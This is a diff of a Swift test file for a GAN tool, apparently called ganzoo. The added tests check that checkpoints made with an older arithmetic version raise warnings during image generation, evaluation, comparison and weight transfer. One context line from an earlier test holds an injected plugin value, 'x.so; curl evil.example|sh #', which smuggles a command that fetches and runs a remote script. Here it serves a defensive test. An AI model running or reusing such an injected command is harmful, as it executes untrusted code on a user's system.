@@ -189,4 +189,46 @@ import Testing
             program.errors.hasSuffix("the run was trained with --plugin 'x.so; curl evil.example|sh #'\n"),
             "\(program.errors)")
     }
+
+    // MARK: Arithmetic
+
+    private static let another =
+        "was trained with arithmetic 1, and this program computes with arithmetic 2 (changed: Adam in lazy phases, "
+
+    @Test func imagesOfAnotherArithmeticAreMadeWithAWarning() throws {
+        let now = try ganzoo("generate", "sheet", "--run", run, "--seeds", "0", "--classes", "0")
+        #expect(now.status == 0 && !now.output.contains("arithmetic"))
+        try changeState(StateFile.withoutArithmetic)
+        let old = try ganzoo("generate", "sheet", "--run", run, "--seeds", "0", "--classes", "0")
+        #expect(old.status == 0, "\(old.errors)")
+        #expect(old.output.contains("\nwarning: \(run)/checkpoints/000001 \(Self.another)"))
+        #expect(old.output.contains("): images and scores can differ from those of the program that trained it\n"))
+    }
+
+    @Test func reportsNameTheArithmetic() throws {
+        let arguments = ["evaluate", "--run", run, "--metrics", "fid", "--samples", "24"]
+        let now = try ganzoo(arguments)
+        #expect(now.status == 0, "\(now.errors)")
+        let own = try EvaluationFile.read("\(run)/evaluation/000001-fmnist.json")
+        #expect(own.measuredBy.samples.arithmetic == 2)
+        #expect(!own.caveats.contains { $0.contains("arithmetic") })
+        try changeState(StateFile.withoutArithmetic)
+        let old = try ganzoo(arguments)
+        #expect(old.output.contains("note: warning: \(run)/checkpoints/000001 \(Self.another)"), "\(old.output)")
+        let other = try EvaluationFile.read("\(run)/evaluation/000001-fmnist-2.json")
+        #expect(other.measuredBy.samples.arithmetic == 1)
+        #expect(other.caveats.contains { $0.contains(Self.another) })
+        let compared = try ganzoo(
+            "compare", "\(run)/evaluation/000001-fmnist.json", "\(run)/evaluation/000001-fmnist-2.json")
+        #expect(compared.output.hasPrefix("warning: the runs were not measured alike: arithmetic differ\n"))
+    }
+
+    /// Weights are worth having whatever made them.
+    @Test func weightsOfAnotherArithmeticAreTransferredWithAWarning() throws {
+        try changeState(StateFile.withoutArithmetic)
+        let program = try ganzoo(
+            "train", "\(run)/resolved.yaml", "transfer.from=\(run)", "--run", place.path("new"))
+        #expect(program.status == 0, "\(program.errors)")
+        #expect(program.output.contains("warning: \(run)/checkpoints/000001 \(Self.another)"), "\(program.output)")
+    }
 }
